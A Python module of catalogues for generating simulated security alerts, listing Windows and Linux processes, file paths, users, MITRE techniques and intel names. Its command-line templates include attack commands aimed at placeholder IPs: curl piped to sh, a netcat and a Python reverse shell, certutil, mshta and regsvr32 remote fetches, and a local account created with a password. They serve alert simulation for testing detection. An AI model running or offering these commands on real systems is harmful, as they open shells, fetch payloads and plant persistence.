"""Catalogues the simulated alerts draw from: binaries, parents, files, users, OS versions, MITRE
techniques, IntelDoc names, labels and sources."""

# ---------------------------------------------------------------------------------------------------
# Catalogues: realistic binaries, parents, files, intel, labels.

WIN_LEAVES = [
    (
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {b64}",
    ),
    ("cmd.exe", r"C:\Windows\System32\cmd.exe", 'cmd.exe /c "whoami /all > %TEMP%\\{n}.txt"'),
    ("rundll32.exe", r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\ProgramData\{n}\update.dll,DllRegister"),
    (
        "regsvr32.exe",
        r"C:\Windows\System32\regsvr32.exe",
        "regsvr32.exe /s /n /u /i:http://198.51.100.{o}/a.sct scrobj.dll",
    ),
    ("mshta.exe", r"C:\Windows\System32\mshta.exe", "mshta.exe http://203.0.113.{o}/payload.hta"),
    (
        "certutil.exe",
        r"C:\Windows\System32\certutil.exe",
        r"certutil.exe -urlcache -split -f http://192.0.2.{o}/tool.exe C:\Users\Public\{n}.exe",
    ),
    ("wscript.exe", r"C:\Windows\System32\wscript.exe", r"wscript.exe //B C:\Users\Public\{n}.vbs"),
    (
        "schtasks.exe",
        r"C:\Windows\System32\schtasks.exe",
        r'schtasks.exe /create /sc minute /mo 15 /tn "Updater{n}" /tr C:\ProgramData\{n}\svc.exe',
    ),
    (
        "msedge.exe",
        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --no-startup-window',
    ),
    ("net.exe", r"C:\Windows\System32\net.exe", "net.exe user backup{n} P@ssw0rd! /add"),
]
WIN_PARENTS = [
    (
        "WINWORD.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r'"WINWORD.EXE" /n "C:\Users\{u}\Downloads\invoice_{n}.docm"',
    ),
    ("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", '"OUTLOOK.EXE"'),
    ("explorer.exe", r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    ("WmiPrvSE.exe", r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding"),
    ("svchost.exe", r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
]
WIN_ROOTS = [
    ("userinit.exe", r"C:\Windows\System32\userinit.exe", r"C:\Windows\system32\userinit.exe"),
    ("services.exe", r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe"),
]
LNX_LEAVES = [
    ("bash", "/usr/bin/bash", "bash -c 'curl -fsSL http://198.51.100.{o}/i.sh | sh'"),
    ("curl", "/usr/bin/curl", "curl -o /tmp/.{n} http://203.0.113.{o}/x"),
    (
        "python3",
        "/usr/bin/python3.11",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.{o}\",4444))'",
    ),
    ("nc", "/usr/bin/nc.openbsd", "nc -e /bin/sh 192.0.2.{o} 4444"),
    ("crontab", "/usr/bin/crontab", "crontab /tmp/.cron{n}"),
]
LNX_PARENTS = [
    ("sshd", "/usr/sbin/sshd", "sshd: {u} [priv]"),
    ("apache2", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start"),
    ("bash", "/usr/bin/bash", "-bash"),
]
LNX_ROOTS = [("systemd", "/usr/lib/systemd/systemd", "/sbin/init splash")]
WIN_FILES = [
    r"C:\Users\{u}\Downloads\invoice_{n}.zip.exe",
    r"C:\ProgramData\{n}\svc.dll",
    r"C:\Users\{u}\AppData\Local\Temp\{n}.tmp.exe",
    r"C:\Windows\Temp\eicar_{n}.com",
]
LNX_FILES = ["/tmp/.x{n}/kworker", "/var/tmp/{n}.so", "/dev/shm/.{n}", "/tmp/verybadvirus{n}.vrs"]
USERS = ["jdoe", "asmith", "mgarcia", "lchen", "kpatel", "svc_backup", "rwilson", "tnguyen", "admin.ops"]
REMOTE_PORTS = [443, 80, 4444, 8080, 22, 3389, 445, 53, 8443]
WIN_OS = [
    ("Microsoft Windows 11 Pro", "10.0.22621.0.0", "22621"),
    ("Microsoft Windows 10 Enterprise", "10.0.19045.0.0", "19045"),
    ("Microsoft Windows Server 2019 Datacenter", "10.0.17763.0.0", "17763"),
]
LNX_OS = [("Ubuntu 22.04.4 LTS", None, None), ("Red Hat Enterprise Linux 9.3", None, None)]
SIGNERS = [
    ("Microsoft Windows Production PCA 2011", "Microsoft Windows"),
    ("Microsoft Code Signing PCA 2011", "Microsoft Corporation"),
]

TECHNIQUES = [
    ("T1059.001", "Command and Scripting Interpreter: PowerShell"),
    ("T1218.011", "System Binary Proxy Execution: Rundll32"),
    ("T1218.010", "System Binary Proxy Execution: Regsvr32"),
    ("T1218.005", "System Binary Proxy Execution: Mshta"),
    ("T1105", "Ingress Tool Transfer"),
    ("T1053.005", "Scheduled Task/Job: Scheduled Task"),
    ("T1136.001", "Create Account: Local Account"),
    ("T1204.002", "User Execution: Malicious File"),
    ("T1071.001", "Application Layer Protocol: Web Protocols"),
    ("T1033", "System Owner/User Discovery"),
    ("T1134.002", "Access Token Manipulation: Create Process with Token"),
    ("T1055", "Process Injection"),
    ("T1055.012", "Process Injection: Process Hollowing"),
    ("T1027", "Obfuscated Files or Information"),
]
LABELS = [
    (1, "Ransomware"),
    (2, "Lateral Movement"),
    (3, "Credential Access"),
    (4, "Persistence"),
    (5, "Living off the Land"),
    (6, "Command and Control"),
    (7, "Initial Access"),
    (8, "High Fidelity"),
]
SOURCES = {1: "Tanium Signals", 2: "Custom Intel", 3: "Mandiant Indicators", 4: "YARA Rules", 6: "Process Injection"}
DOC_NAMES = {
    "tanium-signal": [
        "Suspicious PowerShell Encoded Command",
        "Office Spawned Script Interpreter",
        "Rundll32 Loading DLL From ProgramData",
        "Regsvr32 Remote Scriptlet Execution",
        "Certutil Download",
        "Scheduled Task Created From Temp",
        "Local Account Created",
        "Reverse Shell Network Connection",
        "Outbound Connection To Rare Port",
    ],
    "openioc": ["APT Dropper Hashes", "Commodity Loader IOC", "ELK - Linux Test Alert /tmp file"],
    "yara": ["Cobalt Strike Beacon", "Mimikatz Strings", "Webshell Generic"],
    "processInjection": ["Process Injection Intel"],
}
